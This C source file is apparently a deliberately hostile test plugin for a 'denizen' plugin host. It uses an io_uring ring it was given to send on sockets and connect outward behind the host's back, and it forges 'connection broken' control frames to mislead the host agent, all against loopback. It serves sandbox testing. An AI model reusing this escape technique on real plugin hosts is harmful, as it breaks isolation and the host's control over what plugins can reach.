/*
 * A hostile plugin that uses its ring behind its runner's back, once the agent has enabled it: for every operation that the kernel
 * knows, and to connect to where it likes, through a socket that it was given for something else.
 *
 * What it finds it prints, because its runner may not survive that somebody else uses the ring.
 */
#define _GNU_SOURCE
#include "denizen.h"
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

DENIZEN_PLUGIN;

static const dz_host *host;

enum { CONTROL = 5, RING = 4, CALLER_DONE = 43, BROKEN = 2 };
enum { NOP = 0, SEND = 26, FIXED = 1, POLL_FIRST = 1, LARGE = 8192 };

/* Where kernels put things in the map of both queues; with another layout nothing is submitted, and the test says so. */
enum { SQ_TAIL = 4, CQ_HEAD = 8, CQ_TAIL = 12, SQ_MASK = 16, CQ_MASK = 20, CQ_ENTRIES = 28, CQES = 64 };

struct submission {
    uint8_t opcode, flags;
    uint16_t ioprio;
    int32_t fd;
    uint64_t addr2, addr;
    uint32_t len, msg_flags;
    uint64_t user_data;
    uint16_t buf, personality, addr_len, pad;
    uint64_t more[2];
};
_Static_assert(sizeof(struct submission) == 64, "io_uring_sqe");

static uint8_t *queues;
static struct submission *submissions;

static _Atomic uint32_t *word(uint32_t at) {
    return (_Atomic uint32_t *)(queues + at);
}

static int map_ring(void) {
    queues = mmap(NULL, LARGE, PROT_READ | PROT_WRITE, MAP_SHARED, RING, 0);
    submissions = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, RING, 0x10000000);
    return queues != MAP_FAILED && submissions != MAP_FAILED;
}

static void push(const struct submission *what) {
    uint32_t tail = atomic_load(word(SQ_TAIL)), index = tail & atomic_load(word(SQ_MASK));
    _Atomic uint32_t *array = word(CQES + 16 * atomic_load(word(CQ_ENTRIES)));
    submissions[index] = *what;
    atomic_store(&array[index], index);
    atomic_store(word(SQ_TAIL), tail + 1);
}

/* Hands in what was pushed, in one go: so long nobody can take anything out of the table. */
static int enter(unsigned count) {
    return syscall(SYS_io_uring_enter, RING, count, 0, 0, NULL, 0) < 0 ? -errno : 0;
}

/* The next completion; 1 where there is none. */
static int32_t reap(void) {
    uint32_t head = atomic_load(word(CQ_HEAD));
    if (head == atomic_load(word(CQ_TAIL)))
        return 1;
    int32_t result = *(int32_t *)(queues + CQES + 16 * (head & atomic_load(word(CQ_MASK))) + 8);
    atomic_store(word(CQ_HEAD), head + 1);
    return result;
}

static int32_t submit(const struct submission *what) {
    push(what);
    int failed = enter(1);
    return failed ? failed : reap();
}

/*
 * As `escape`, but what connects is begun before the agent is told, and waits: for room to send, of which there is none as long as the
 * client reads nothing. A disconnect wakes it, the last that was begun first. Such a request has its socket, whatever is in the table.
 */
static int32_t escape_later(void *data, dz_call *call) {
    enum { MOST = 8 };
    static const uint8_t much[4 << 20];
    dz_slice input;
    char text[1024] = {0}, *rest = text;
    uint8_t done[MOST][32] = {0};
    int count = 0;
    (void)data;
    host->input(call, &input);
    memcpy(text, input.ptr, input.len < sizeof text ? input.len : sizeof text - 1);
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons((uint16_t)strtol(rest, &rest, 10))};
    to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    for (uint64_t number; count < MOST && (number = strtoul(rest, &rest, 10)); count++) {
        uint8_t *frame = done[count];
        frame[4] = CALLER_DONE, frame[6] = BROKEN, frame[16] = (uint8_t)(count + 1);
        memcpy(frame + 8, &number, sizeof number);
    }
    struct submission fill = {.opcode = SEND, .flags = FIXED, .addr = (uintptr_t)much, .len = sizeof much};
    struct submission word_out = {.opcode = SEND, .flags = FIXED, .addr = (uintptr_t) "out", .len = 3};
    struct submission away = word_out;
    fill.msg_flags = MSG_DONTWAIT | MSG_NOSIGNAL;
    word_out.ioprio = away.ioprio = POLL_FIRST;
    word_out.msg_flags = MSG_NOSIGNAL;
    away.msg_flags = MSG_FASTOPEN | MSG_NOSIGNAL;
    away.addr2 = (uintptr_t)&to, away.addr_len = sizeof to;
    if (!map_ring())
        return DZ_OK;
    for (int round = 0; round < 20; round++) {
        for (int at = 1; at <= count; at++)
            fill.fd = at, push(&fill);
        enter((unsigned)count);
        usleep(10000);
    }
    for (int at = 1; at <= count; at++) {
        word_out.fd = away.fd = at;
        push(&word_out), push(&away);
    }
    int begun = enter(2 * (unsigned)count);
    ssize_t said = write(CONTROL, done, (size_t)count * 32);
    for (int round = 0; round < 50; round++)
        enter(0), usleep(10000);
    printf("begun %d, told %d\n", begun, (int)said);
    fflush(stdout);
    return DZ_OK;
}

/* Input: a port of the host, and the numbers of the connections in the first places of the ring, from place 1 on; spaces between. */
static int32_t escape(void *data, dz_call *call) {
    enum { MOST = 64 };
    dz_slice input;
    char text[1024] = {0}, *rest = text;
    uint8_t done[MOST][32] = {0};
    int count = 0;
    (void)data;
    host->input(call, &input);
    memcpy(text, input.ptr, input.len < sizeof text ? input.len : sizeof text - 1);
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons((uint16_t)strtol(rest, &rest, 10))};
    to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    for (uint64_t number; count < MOST && (number = strtoul(rest, &rest, 10)); count++) {
        uint8_t *frame = done[count];
        frame[4] = CALLER_DONE, frame[6] = BROKEN, frame[16] = (uint8_t)(count + 1);
        memcpy(frame + 8, &number, sizeof number);
    }
    struct submission nothing = {.opcode = NOP, .flags = FIXED};
    struct submission away = {
        .opcode = SEND,
        .flags = FIXED,
        .fd = 1,
        .addr = (uintptr_t) "out",
        .len = 3,
        .msg_flags = MSG_FASTOPEN | MSG_DONTWAIT | MSG_NOSIGNAL,
        .addr2 = (uintptr_t)&to,
        .addr_len = sizeof to,
    };
    if (!map_ring()) {
        printf("no ring: %d\n", errno);
        return DZ_OK;
    }
    int32_t works = submit(&nothing), before = submit(&away);
    /* The agent is told that the connections broke. What does it do to them, and when? */
    ssize_t said = write(CONTROL, done, (size_t)count * 32);
    uint32_t connected = 0, gone = 0, out = 0;
    struct timespec begun, now;
    clock_gettime(CLOCK_MONOTONIC, &begun);
    do {
        gone = 0;
        for (away.fd = 1; away.fd <= count; away.fd++)
            push(&away);
        enter((unsigned)count);
        for (int32_t result; (result = reap()) <= 0;) {
            connected += result == -EISCONN;
            gone += result == -EBADF;
            out += result == -EINPROGRESS;
        }
        clock_gettime(CLOCK_MONOTONIC, &now);
    } while (gone < (uint32_t)count && now.tv_sec - begun.tv_sec < 2);
    printf("nop %d, first %d, told %d, connected %u, gone %u, out %u\n", works, before, (int)said, connected, gone, out);
    fflush(stdout);
    return DZ_OK;
}

static int32_t greet(void *data, dz_call *call) {
    (void)data;
    host->reply_write(call, dz_text("hello"));
    return DZ_OK;
}

int32_t denizen_plugin_init(const dz_host *the_host, const dz_init *init) {
    static const struct {
        const char *name;
        dz_function_entry entry;
    } functions[] = {{"escape", escape}, {"escape_later", escape_later}, {"greet", greet}};
    int32_t status = DZ_OK;
    host = the_host;
    for (size_t i = 0; i < sizeof functions / sizeof *functions && status == DZ_OK; i++) {
        dz_function function;
        memset(&function, 0, sizeof function);
        function.size = sizeof function;
        function.name = dz_text(functions[i].name);
        function.entry = functions[i].entry;
        status = host->declare_function(init->registry, &function);
    }
    return status;
}
